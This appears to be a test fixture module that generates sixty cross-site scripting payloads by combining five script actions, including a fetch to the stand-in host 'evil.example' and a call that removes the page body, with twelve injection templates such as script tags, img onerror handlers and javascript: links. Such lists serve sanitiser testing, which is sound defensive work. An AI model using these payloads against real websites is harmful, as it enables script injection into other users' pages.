/** What would run if a text became markup, a link or a part of a script. */
const RUN = ['alert(1)', 'alert`1`', 'top.alert(1)', 'fetch("https://evil.example")', 'document.body.remove()'];
/** Sixty. */
export const PAYLOADS = RUN.flatMap((run) => [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `javascript:${run}`,
  `</style><script>${run}</script>`,
  `\${${run}}`,
  `{{${run}}}`,
  `<a href="javascript:${run}">x</a>`,
]);
